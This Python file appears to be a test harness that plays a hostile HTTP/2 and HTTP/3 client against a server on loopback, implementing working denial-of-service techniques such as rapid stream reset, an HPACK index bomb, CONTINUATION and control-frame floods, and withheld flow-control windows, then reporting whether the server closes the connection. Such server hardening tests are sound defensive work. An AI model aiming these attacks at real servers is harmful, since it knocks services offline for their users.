"""A client that means harm, over HTTP/2 (h2, hpack, hyperframe) or HTTP/3 (aioquic).

usage: peer.py ATTACK PORT COUNT TOKEN PATH
Does one attack until the server ends the connection or COUNT rounds are done, then says on one line of JSON how
many bytes it sent, whether the connection was ended, and the code and reason of that. Only loopback is asked.
"""
import asyncio
import json
import socket
import ssl
import sys
import time

HOST = "127.0.0.1"
# A server that does not end the connection within this many seconds never will.
PATIENCE = 40


def headers(port, token, path):
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", f"{HOST}:{port}"), (":path", path)]
    return fields + ([("authorization", "Bearer " + token)] if token else [])


class Http2:
    """A connection by h2, on which any bytes can be sent besides."""

    def __init__(self, port, window=None):
        import h2.config
        import h2.connection
        import h2.events
        import h2.settings

        self.ended = h2.events.ConnectionTerminated
        self.answered = h2.events.ResponseReceived
        self.socket = socket.create_connection((HOST, port), 10)
        self.socket.settimeout(0.02)
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
        if window is not None:
            initial = {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: window, h2.settings.SettingCodes.ENABLE_PUSH: 0}
            self.h2.local_settings = h2.settings.Settings(client=True, initial_values=initial)
        self.h2.initiate_connection()
        self.sent = self.statuses = 0
        self.over = self.code = None
        self.reason = ""
        self.flush()

    def flush(self):
        self.raw(self.h2.data_to_send())

    def raw(self, data):
        if not data or self.over:
            return
        self.socket.settimeout(PATIENCE)
        try:
            self.socket.sendall(data)
            self.sent += len(data)
        except OSError:
            self.over = True
        self.socket.settimeout(0.02)

    def look(self):
        """Takes what the server says; answers its pings."""
        import h2.exceptions

        try:
            while True:
                data = self.socket.recv(65536)
                if not data:
                    self.over = True
                    return
                try:
                    events = self.h2.receive_data(data)
                except h2.exceptions.ProtocolError:
                    self.over = True
                    return
                for event in events:
                    if isinstance(event, self.ended):
                        self.code, self.reason = int(event.error_code), (event.additional_data or b"").decode()
                    self.statuses += isinstance(event, self.answered)
                if not self.code:
                    self.flush()
        except (TimeoutError, BlockingIOError):
            pass
        except OSError:
            self.over = True

    def pour(self, chunk, times):
        """Sends the same bytes again and again until the server has enough; then its report."""
        for _ in range(times):
            if self.over or self.code is not None:
                break
            self.raw(chunk)
            self.look()
        self.wait()
        return self.report()

    def wait(self):
        end = time.monotonic() + PATIENCE
        while not self.over and self.code is None and time.monotonic() < end:
            self.look()

    def report(self):
        # What it said before a reset may still be there.
        self.over, over = None, self.over
        self.look()
        ended = bool(over or self.over or self.code is not None)
        return {"sent": self.sent, "ended": ended, "code": self.code, "reason": self.reason, "answers": self.statuses}


def flood(frame):
    def run(port, count, token, path):
        client = Http2(port)
        chunk = frame().serialize() * 50
        return client.pour(chunk, count // 50)

    return run


def frames():
    from hyperframe import frame as f

    ping = lambda: f.PingFrame(0, opaque_data=b"12345678")
    settings = lambda: f.SettingsFrame(0, settings={3: 100})
    window = lambda: f.WindowUpdateFrame(0, window_increment=1)
    priority = lambda: f.PriorityFrame(1, depends_on=0, stream_weight=1)
    return {"h2_ping": ping, "h2_settings": settings, "h2_window": window, "h2_priority": priority}


def h2_reset(port, count, token, path):
    """Requests that are taken back as soon as they are made."""
    client = Http2(port)
    for _ in range(count):
        if client.over or client.code is not None:
            break
        stream = client.h2.get_next_available_stream_id()
        client.h2.send_headers(stream, headers(port, token, path), end_stream=True)
        client.h2.reset_stream(stream, 8)
        client.flush()
        client.look()
    client.wait()
    return client.report()


def h2_index_bomb(port, count, token, path):
    """One header of nearly 4 KB in the table, and requests of thousands of references to it."""
    import hpack
    from hyperframe.frame import HeadersFrame

    client = Http2(port)
    encoder = hpack.Encoder()
    for number in range(count):
        if client.over or client.code is not None:
            break
        block = encoder.encode(headers(port, token, path))
        if number == 0:
            block += encoder.encode([("x", "y" * 3900)])
        # The newest entry of the dynamic table is number 62.
        block += b"\xbe" * 12_000
        frame = HeadersFrame(2 * number + 1, data=block, flags=["END_HEADERS", "END_STREAM"])
        client.raw(frame.serialize())
        client.look()
    client.wait()
    return client.report()


def h2_empty_data(port, count, token, path):
    """A body of empty frames."""
    from hyperframe.frame import DataFrame

    client = Http2(port)
    post = [(":method", "POST"), (":scheme", "http"), (":authority", f"{HOST}:{port}"), (":path", "/v1/messages")]
    client.h2.send_headers(1, post + [("content-type", "application/json"), ("authorization", "Bearer " + token)])
    client.flush()
    chunk = DataFrame(1).serialize() * 50
    return client.pour(chunk, count // 50)


def h2_continuation(port, count, token, path):
    """A header that never ends."""
    import hpack
    from hyperframe.frame import ContinuationFrame, HeadersFrame

    client = Http2(port)
    block = hpack.Encoder().encode(headers(port, token, path))
    client.raw(HeadersFrame(1, data=block, flags=["END_STREAM"]).serialize())
    chunk = ContinuationFrame(1, data=b"").serialize() * 10
    return client.pour(chunk, count // 10)


def h2_unread(port, count, token, path):
    """Large answers, and no room for any; pings are answered."""
    client = Http2(port, window=0)
    for _ in range(min(count, 32)):
        stream = client.h2.get_next_available_stream_id()
        client.h2.send_headers(stream, headers(port, token, path), end_stream=True)
    client.flush()
    client.wait()
    return client.report()


def h3(kind):
    def run(port, count, token, path):
        return asyncio.run(h3_attack(kind, port, count, token, path))

    return run


async def h3_attack(kind, port, count, token, path):
    from aioquic.asyncio.client import connect
    from aioquic.asyncio.protocol import QuicConnectionProtocol
    from aioquic.h3.connection import H3Connection
    from aioquic.quic.configuration import QuicConfiguration
    from aioquic.quic.events import ConnectionTerminated, StreamReset

    class Peer(QuicConnectionProtocol):
        def __init__(self, *args, **kwargs):
            super().__init__(*args, **kwargs)
            self.over, self.end, self.resets = asyncio.Event(), None, 0

        def quic_event_received(self, event):
            self.resets += isinstance(event, StreamReset)
            if isinstance(event, ConnectionTerminated):
                self.end = event
                self.over.set()

    small = 1024
    config = QuicConfiguration(alpn_protocols=["h3"], is_client=True, verify_mode=ssl.CERT_NONE)
    if kind == "unread":
        config.max_stream_data = config.max_data = small
    async with connect(HOST, port, configuration=config, create_protocol=Peer) as peer:
        http, quic = H3Connection(peer._quic), peer._quic
        if kind == "unread":
            # It would tell the server of new room for what it has read.
            quic._write_connection_limits = quic._write_stream_limits = lambda *args, **named: None
        sent = 0
        streams = []
        for _ in range(min(count, 16)):
            stream = quic.get_next_available_stream_id()
            fields = [(name.encode(), value.encode()) for name, value in headers(port, token, path)]
            if kind == "endless":
                fields = [(b":method", b"POST")] + [(b":path", b"/v1/messages") if name == b":path" else (name, value) for name, value in fields[1:]]
                fields += [(b"content-type", b"application/json")]
            http.send_headers(stream, fields, end_stream=kind != "endless")
            streams.append(stream)
        peer.transmit()
        end = time.monotonic() + PATIENCE
        while not peer.over.is_set() and time.monotonic() < end and peer.resets < len(streams):
            if kind == "endless":
                for stream in streams:
                    try:
                        http.send_data(stream, b" ", end_stream=False)
                        sent += 3
                    except Exception:
                        pass
                peer.transmit()
            await asyncio.sleep(0.05)
        code = peer.end.error_code if peer.end else None
        reason = peer.end.reason_phrase if peer.end else ""
        ended = peer.end is not None or peer.resets > 0
        return {"sent": sent + 200 * len(streams), "ended": ended, "code": code, "reason": reason, "answers": peer.resets}


def main():
    attack, port, count, token, path = sys.argv[1:]
    attacks = {name: flood(frame) for name, frame in frames().items()}
    for run in (h2_reset, h2_index_bomb, h2_empty_data, h2_continuation, h2_unread):
        attacks[run.__name__] = run
    attacks |= {"h3_unread": h3("unread"), "h3_endless": h3("endless")}
    print(json.dumps(attacks[attack](int(port), int(count), token, path)))


if __name__ == "__main__":
    main()
